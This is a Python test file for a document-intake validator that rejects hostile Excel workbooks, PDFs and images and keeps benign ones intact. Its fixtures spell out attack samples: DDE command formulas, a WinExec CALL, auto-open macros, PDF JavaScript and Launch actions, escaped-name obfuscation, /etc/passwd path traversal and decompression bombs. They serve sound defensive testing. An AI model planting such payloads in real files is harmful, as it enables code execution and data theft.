"""Files handed in by an attacker: whatever acts, fetches, hides or weighs is refused, whatever its name."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import pikepdf
import pytest
from openpyxl import Workbook
from openpyxl.workbook.defined_name import DefinedName
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, ImageCms

from paqte.reporting.intake import pictures
from paqte.reporting.intake.apart import examine, examine_apart
from paqte.reporting.intake.refus import PieceRefused
from paqte.reporting.relecture.relecture import RelectureRefused
from paqte.reporting.relecture.relecture_a_part import read_apart
from paqte.reporting.remplissage.gabarits.gabarit import GabaritRefused, check_received
from tests.factories import A_PDF

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
# What stands inside the zip, which nobody sees who opens the workbook.
INSIDE = re.compile(r"\bxl/|_rels|\.(?:xml|rels|bin|vml)\b|\[Content_Types")
TYPES, LINKS, SHEET = "[Content_Types].xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml"


def a_book(formula: str = "") -> bytes:
    held, book = io.BytesIO(), Workbook()
    book.active["A1"] = "=1+1"
    if formula:
        book.active["A2"] = formula
    book.save(held)
    return held.getvalue()


def rewritten(change: Callable[[dict[str, bytes]], object], book: bytes | None = None) -> bytes:
    with zipfile.ZipFile(io.BytesIO(book or a_book())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return held.getvalue()


def with_part(name: str, data: bytes = b"x") -> bytes:
    return rewritten(lambda parts: parts.update({name: data}))


def inserted(part: str, mark: bytes, more: bytes) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert mark in parts[part]
        parts[part] = parts[part].replace(mark, more + mark, 1)

    return rewritten(change)


def with_type(content_type: bytes) -> bytes:
    return inserted(TYPES, b"</Types>", b'<Override PartName="/xl/styles2.xml" ContentType="' + content_type + b'"/>')


def with_tie(kind: bytes, target: bytes = b"a.xml", mode: bytes = b"") -> bytes:
    tie = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    return inserted(LINKS, b"</Relationships>", tie % kind + b'Target="%s"%s/>' % (target, mode))


def encrypted() -> bytes:
    book = bytearray(a_book())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = book.find(signature)
        while place >= 0:
            book[place + offset] |= 1
            place = book.find(signature, place + 4)
    return bytes(book)


def twice() -> bytes:
    held = io.BytesIO(a_book())
    with zipfile.ZipFile(held, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(SHEET, "<worksheet/>")
    return held.getvalue()


def of_names(name: str, value: str) -> bytes:
    held, book = io.BytesIO(), Workbook()
    book.defined_names[name] = DefinedName(name, attr_text=value)
    book.save(held)
    return held.getvalue()


EXTERNAL = b' TargetMode="External"'
BOOKS: dict[str, Callable[[], bytes]] = {
    "a macro under its own name": lambda: with_part("xl/vbaProject.bin", OLE),
    "a macro under another name": lambda: with_part("xl/media/image1.png", OLE),
    "a macro under another name in printer settings": lambda: with_part("xl/printerSettings/printerSettings1.bin", OLE),
    "the type of a macro": lambda: with_type(b"application/vnd.ms-office.vbaProject"),
    "the type of a macro in capitals": lambda: with_type(b"application/VND.MS-OFFICE.VBAPROJECT"),
    "a workbook said to have macros": lambda: with_type(b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "the tie of a macro": lambda: with_tie(b"vbaProject"),
    "a sheet of old macros": lambda: with_tie(b"xlMacrosheet"),
    "an old macro that opens": lambda: of_names("_xlnm.Auto_Open", "Sheet!$A$1"),
    "a button with a macro": lambda: with_part("xl/drawings/drawing9.xml", b'<a><sp macro="[0]!Go"/></a>'),
    "an old button with a macro": lambda: with_part("xl/d.vml", b"<xml><FmlaMacro>Go</FmlaMacro></xml>"),
    "an ActiveX control": lambda: with_part("xl/activeX/activeX1.xml", b"<a/>"),
    "an ActiveX control tied": lambda: with_tie(b"control"),
    "an embedded object": lambda: with_part("xl/embeddings/a.bin"),
    "an embedded object tied elsewhere": lambda: with_tie(b"oleObject"),
    "an embedded workbook": lambda: with_part("xl/media/a.bin", a_book()),
    "a program": lambda: with_part("xl/media/image1.emf", b"MZ\x90\x00"),
    "a link to another workbook": lambda: with_tie(b"externalLink"),
    "a picture fetched": lambda: with_tie(b"image", b"http://exemple.fr/a.png", EXTERNAL),
    "a link fetched by a mode in lower case": lambda: with_tie(b"image", b"http://a.fr/a", b' TargetMode="external"'),
    "a link to a file": lambda: with_tie(b"hyperlink", b"file:///c:/a", EXTERNAL),
    "DDE in its part": lambda: with_part("xl/a.xml", b'<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>'),
    "DDE in a formula": lambda: a_book("=cmd|'/c calc'!A0"),
    "DDE with the name of a program between quotes": lambda: a_book("='cmd'|'/c calc'!A0"),
    "DDE by its function": lambda: a_book('=DDE("soffice";"a";"b")'),
    "a web service": lambda: a_book('=WEBSERVICE("http://exemple.fr/"&A1)'),
    "a web service under its new name": lambda: a_book('=1+_xlfn.WEBSERVICE ("http://exemple.fr/")'),
    "a web picture": lambda: a_book('=_xlfn.IMAGE("http://exemple.fr/a.png")'),
    "data in real time": lambda: a_book('=RTD("x",,"y")'),
    "a formula that calls a library": lambda: a_book('=CALL("Kernel32","WinExec","JFJ","calc",0)'),
    "another workbook in a formula": lambda: a_book("=[1]Feuil1!A1"),
    "another workbook by its path": lambda: a_book("='C:\\x\\[a.xlsx]Feuil1'!A1"),
    "another workbook by its address": lambda: a_book("='file:///tmp/a.ods'#Feuil1.A1"),
    "a share in a formula": lambda: a_book("='\\\\serveur\\x\\a'!A1"),
    "DDE in a name": lambda: of_names("a", "cmd|'/c calc'!A0"),
    "DDE in the rule of a format": lambda: inserted(
        SHEET, b"</worksheet>", b"<cfRule><formula>cmd|'/c'!A0</formula></cfRule>"
    ),
    "DDE in the rule of a list": lambda: inserted(
        SHEET, b"</worksheet>", b"<dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation>"
    ),
    "a connection": lambda: with_part("xl/connections.xml", b"<connections/>"),
    "a connection under another name": lambda: with_part("xl/a.xml", b'<a><dbPr connection="x"/></a>'),
    "a web query": lambda: with_part("xl/a.xml", b'<a><webPr url="http://exemple.fr"/></a>'),
    "a query of Power Query": lambda: with_part("customXml/item1.xml", b"<DataMashup>UEsDBA==</DataMashup>"),
    "a web extension": lambda: with_type(b"application/vnd.ms-office.webextension+xml"),
    "an entity": lambda: with_part("xl/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "a part in UTF-16": lambda: with_part("xl/a.bin", "<a><ddeLink/></a>".encode("utf-16")),
    "bytes before": lambda: b"#!/bin/sh\n" + a_book(),
    "a zip before": lambda: with_part("a")[:60] + a_book(),
    "bytes after": lambda: a_book() + b"<script>",
    "a part twice": twice,
    "an encrypted part": encrypted,
    "an old or protected workbook": lambda: OLE,
    "a name that climbs": lambda: with_part("../a.xml", b"<a/>"),
    "a tie that climbs": lambda: with_tie(b"worksheet", b"../../../../etc/passwd"),
    "a tie that climbs from the root": lambda: with_tie(b"worksheet", b"/xl/../../etc/passwd"),
    "a sheet that is not there": lambda: rewritten(lambda parts: parts.pop(SHEET)),
    "attributes without end": lambda: inserted(
        SHEET, b"</worksheet>", b"<a " + b" ".join(b'a%d="1"' % n for n in range(5_000)) + b"/>"
    ),
    "nested without end": lambda: inserted(SHEET, b"</worksheet>", b"<a>" * 50_000 + b"</a>" * 50_000),
    "a bomb": lambda: with_part("xl/a.xml", b" " * 70_000_000),
    "a bomb below the size": lambda: with_part("xl/a.xml", b"<a>" + b" " * 60_000_000 + b"</a>"),
    "cut short": lambda: a_book()[:-30],
    "a text": lambda: b"PK\x03\x04 rien d'autre",
}  # fmt: skip


@pytest.mark.parametrize("name", BOOKS)
def test_a_workbook_that_acts_fetches_or_hides_is_refused_as_evidence_and_as_bilan_alike(name: str) -> None:
    book = BOOKS[name]()
    with pytest.raises(PieceRefused, match=r"^Ce fichier n’est pas accepté : .*\. Joignez") as as_evidence:
        examine(book)
    with pytest.raises(GabaritRefused) as as_bilan:
        check_received(book)
    for refused in (as_evidence, as_bilan):
        assert not INSIDE.search(str(refused.value)), str(refused.value)


@pytest.mark.parametrize("name", ["DDE in a formula", "a macro under another name", "bytes before", "a bomb"])
def test_a_bilan_to_check_is_read_the_same_way(name: str) -> None:
    with pytest.raises(RelectureRefused):
        read_apart(BOOKS[name]())


@pytest.mark.parametrize(
    "formula",
    [
        "",
        "=SUM(A1:A3)/2",
        '=HYPERLINK("https://exemple.fr/a|b","Voir")',
        '="cmd|calc"&"[1]!"',
        "=SUM(Table1[Réalisé])",
        "=Table1[[#This Row],[Réalisé]]*2",
        "='A|B'!A1",
        '=IF(A1="DDE(","RTD(","http://")',
        "=RECALL(A1)+IMAGES(2)",
        "=VLOOKUP(A1,'2026'!A:B,2,FALSE)",
    ],
)
def test_a_workbook_that_only_counts_is_kept_to_the_byte(formula: str) -> None:
    book = a_book(formula)
    assert examine(book) == (book, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ".xlsx")


def a_pdf(change: Callable[[Pdf], object] = lambda _: None, **how: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    held = io.BytesIO()
    pdf.save(held, **how)
    return held.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def embed(pdf: Pdf) -> None:
    pdf.attachments["a.exe"] = b"MZ"


def on_page(annotation: Dictionary) -> Callable[[Pdf], object]:
    def change(pdf: Pdf) -> None:
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))

    return change


def acts(action: Dictionary) -> Callable[[Pdf], object]:
    return lambda pdf: setattr(pdf.Root, "OpenAction", action)


def renamed(content: bytes, name: bytes, written: bytes) -> bytes:
    assert name in content
    return content.replace(name, written)


PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
PDFS: dict[str, Callable[[], bytes]] = {
    "a script at the opening": lambda: a_pdf(acts(script())),
    "a script in a compressed stream": lambda: a_pdf(
        lambda p: setattr(p.Root, "OpenAction", p.make_indirect(script())), **PACKED
    ),
    "a script under an escaped name": lambda: renamed(a_pdf(acts(script())), b"/JavaScript", b"/J#61vaScript"),
    "a script under a name all escaped": lambda: renamed(
        a_pdf(acts(script())), b"/JavaScript", b"/#4a#61#76#61#53#63#72#69#70#74"
    ),
    "a script that no page leads to": lambda: a_pdf(
        lambda p: setattr(p.Root, "Rien", p.make_indirect(script())), **PACKED
    ),
    "a script when the page closes": lambda: a_pdf(lambda p: setattr(p.pages[0], "AA", Dictionary(C=script()))),
    "a named script": lambda: a_pdf(
        lambda p: setattr(p.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
        **PACKED,
    ),
    "a program launched": lambda: a_pdf(acts(Dictionary(S=Name.Launch, F=String("cmd.exe"))), **PACKED),
    "a program launched by a link": lambda: a_pdf(
        on_page(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.Launch))),
        **PACKED,
    ),
    "a file embedded": lambda: a_pdf(embed),
    "a file embedded, packed": lambda: a_pdf(embed, **PACKED),
    "a file pinned on the page": lambda: a_pdf(
        on_page(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))), **PACKED
    ),
    "an address at the opening": lambda: a_pdf(acts(Dictionary(S=Name.URI, URI=String("http://exemple.fr"))), **PACKED),
    "a form that sends": lambda: a_pdf(acts(Dictionary(S=Name.SubmitForm, F=String("http://exemple.fr"))), **PACKED),
    "another document": lambda: a_pdf(acts(Dictionary(S=Name.GoToR, F=String("a.pdf"))), **PACKED),
    "a form of XFA": lambda: a_pdf(lambda p: setattr(p.Root, "AcroForm", Dictionary(XFA=String("<a/>"))), **PACKED),
    "a password": lambda: a_pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "a script behind the password of its owner": lambda: a_pdf(
        acts(script()), encryption=pikepdf.Encryption(owner="a", user=""), **PACKED
    ),
    "a script kept from a former version": lambda: A_PDF[:-7] + b"9 0 obj<</S/JavaScript/JS(a)>>endobj\n%%EOF\n",
    "a program after the end": lambda: A_PDF + b"MZ\x90\x00",
    "an archive after the end": lambda: A_PDF + a_book(),
    "no page": lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n",
    "cut short": lambda: a_pdf()[:-30],
    "a name and nothing else": lambda: b"%PDF-1.7 %%EOF",
}  # fmt: skip


@pytest.mark.parametrize("name", PDFS)
def test_a_pdf_that_acts_or_hides_is_refused_by_a_sentence(name: str) -> None:
    content = PDFS[name]()
    with pytest.raises(PieceRefused, match="joignez"):
        examine(content)


@pytest.mark.parametrize(
    "content",
    [
        A_PDF,
        a_pdf(),
        a_pdf(**PACKED),
        a_pdf(acts(Dictionary(S=Name.GoTo, D=String("a")))),
        a_pdf(
            on_page(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://a.fr")))
            )
        ),
        a_pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        A_PDF.strip() + b"\r\n\0",
    ],
    ids=["plain", "written", "packed", "opens at a page", "with a link", "printing restricted", "end of line"],
)
def test_a_pdf_that_shows_pages_is_kept_to_the_byte(content: bytes) -> None:
    assert examine(content) == (content, "application/pdf", ".pdf")


def photo(kind: str) -> bytes:
    """Wider than high as stored, to be turned by a quarter, with all that a telephone writes."""
    held, image = io.BytesIO(), Image.new("RGB", (40, 20), "white")
    image.paste("red", (0, 0, 10, 20))
    exif = Image.Exif()
    exif[0x0112], exif[0x010E], exif[0x0131] = 6, "chez Mme Martin", "Telephone 12"
    exif.get_ifd(0x8825)[1] = "N"
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    more = {"comment": b"chez Mme Martin"} if kind == "JPEG" else {}
    image.save(held, kind, exif=exif, icc_profile=icc, quality=95, **more)
    return held.getvalue() + b"PK\x03\x04cache"


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_keeps_what_is_seen_and_nothing_else(kind: str) -> None:
    given = photo(kind)
    kept = examine(given).octets
    with Image.open(io.BytesIO(kept)) as image:
        assert (image.format, image.size) == (kind, (20, 40))
        assert not image.getexif() and not image.info.keys() & {"exif", "icc_profile", "comment", "xmp", "parsed_exif"}
        red = image.convert("RGB").getpixel((10, 3))
        white = image.convert("RGB").getpixel((10, 30))
    assert red[0] > 200 and red[1] < 60 and min(white) > 240
    assert not re.search(rb"Martin|Telephone|cache|PK\x03\x04|Exif|ICC_PROFILE", kept)


def test_a_picture_with_clear_parts_keeps_them() -> None:
    held = io.BytesIO()
    Image.new("RGBA", (4, 4), (255, 0, 0, 0)).save(held, "PNG")
    with Image.open(io.BytesIO(examine(held.getvalue()).octets)) as image:
        assert image.convert("RGBA").getpixel((1, 1))[3] == 0


def test_a_picture_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    held = io.BytesIO()
    Image.new("1", (20_000, 9_000)).save(held, "PNG")
    assert len(held.getvalue()) < 100_000
    with pytest.raises(PieceRefused, match="50 millions de pixels"):
        examine(held.getvalue())
    monkeypatch.setattr(pictures, "MOST_PIXELS", 10**9)
    with pytest.raises(PieceRefused):
        examine(held.getvalue())


@pytest.mark.parametrize(
    "content", [b"GIF89a" + bytes(30), b"<svg onload='x'/>", b"\xff\xd8\xff" + bytes(40), b"RIFF1234WEBP"]
)
def test_what_is_no_picture_of_ours_is_refused(content: bytes) -> None:
    with pytest.raises(PieceRefused, match="ne se lit pas en entier"):
        examine(content)


def test_a_process_apart_gives_the_same_answers() -> None:
    assert examine_apart(A_PDF) == (A_PDF, "application/pdf", ".pdf")
    assert examine_apart(photo("JPEG")) == examine(photo("JPEG"))
    with pytest.raises(PieceRefused, match="script"):
        examine_apart(PDFS["a script in a compressed stream"]())
    with pytest.raises(PieceRefused, match="n’est pas un PDF"):
        examine_apart(photo("PNG"), "application/pdf")


def test_a_file_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("paqte.reporting.intake.apart.SECONDS", 0.005)
    with pytest.raises(PieceRefused, match="trop de temps"):
        examine_apart(A_PDF)
